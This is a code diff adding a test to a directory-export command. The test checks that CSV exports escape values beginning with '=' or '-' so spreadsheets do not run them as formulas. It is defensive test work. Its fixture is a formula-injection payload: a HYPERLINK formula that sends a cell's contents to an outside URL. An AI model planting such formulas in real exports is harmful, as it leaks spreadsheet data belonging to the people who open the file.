@@ -149,6 +149,18 @@ def test_the_csv_export_has_one_row_per_published_service_with_its_ward(tmp_path
     )
 
 
+def test_the_csv_export_does_not_hand_spreadsheets_a_formula(tmp_path: Path):
+    formula = '=HYPERLINK("https://example.org/?d="&A1, "Open")'
+    full_service(name=formula, description="-1 sign-up fee @ the door")
+    out = tmp_path / "services.csv"
+
+    run("directory_export", "--format", "csv", "--output", str(out))
+
+    (row,) = list(csv.DictReader(out.open(newline="")))
+    assert row["name"] == "'" + formula
+    assert row["description"] == "'-1 sign-up fee @ the door"
+
+
 def test_exporting_to_a_missing_folder_is_a_command_error(tmp_path: Path):
     with pytest.raises(CommandError, match="does not exist"):
         run("directory_export", "--output", str(tmp_path / "no" / "file.json"))
